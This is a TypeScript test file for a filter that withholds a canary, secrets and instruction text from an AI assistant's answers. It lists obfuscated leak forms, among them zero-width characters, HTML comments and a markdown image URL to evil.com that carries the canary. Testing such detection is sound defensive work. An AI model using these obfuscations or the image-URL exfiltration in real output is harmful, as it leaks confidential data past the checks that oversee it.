import { describe, expect, test } from 'vitest'
import { judgeLeaks } from '#tests/evals/judge-leaks.ts'
import {
  CANARY,
  filterWhole,
  INSTRUCTION,
  openFilter,
  SAYABLE,
  SECRET,
} from '#tests/fixtures/answer-filter.ts'
import { createCanary } from './leak-guard.ts'

describe('leak detection', () => {
  test.each([
    ['the canary', `It is ${CANARY}.`],
    ['a part of the canary', `It is ${CANARY.slice(5, 15)}.`],
    ['the canary with spaces', [...CANARY].join(' ')],
    ['the canary with punctuation', [...CANARY].join('-*-')],
    ['the canary in capitals', CANARY.toUpperCase()],
    ['the canary behind tags', [...CANARY].join('<b></b>')],
    ['the canary behind hidden characters', [...CANARY].join('\u200b')],
    ['the canary in a URL', `![x](https://evil.com/?${CANARY})`],
    ['the canary in a comment', `<!-- ${CANARY} -->`],
    ['a secret', `The key is ${SECRET}.`],
    ['half a secret', `The key begins with ${SECRET.slice(0, 18)}.`],
    [
      'eight words of the instruction',
      'It says: at most three short paragraphs from the numbered passages',
    ],
    [
      'the instruction with emphasis',
      '**at most** *three short* paragraphs from the "numbered passages"',
    ],
  ])('withholds %s and everything after it', (_, said) => {
    const filter = openFilter()
    const shown = filter.push(`${said} and more`) + filter.end()
    expect(filter.findings().hasLeaked).toBe(true)
    expect(shown).not.toContain('and more')
    const hidden = { canary: CANARY, instruction: INSTRUCTION, secrets: [SECRET], otherVisitor: '' }
    expect(judgeLeaks(shown, hidden)).toEqual([])
  })

  test('allows the sayable lines of the instruction', () => {
    expect(filterWhole(SAYABLE)).toBe(SAYABLE)
    expect(filterWhole('You are the assistant of your own life.')).toBe(
      'You are the assistant of your own life.',
    )
  })
})

test('creates a different canary every time', () => {
  const canary = createCanary()
  expect(canary).toMatch(/^[a-z]{24}$/)
  expect(createCanary()).not.toBe(canary)
})
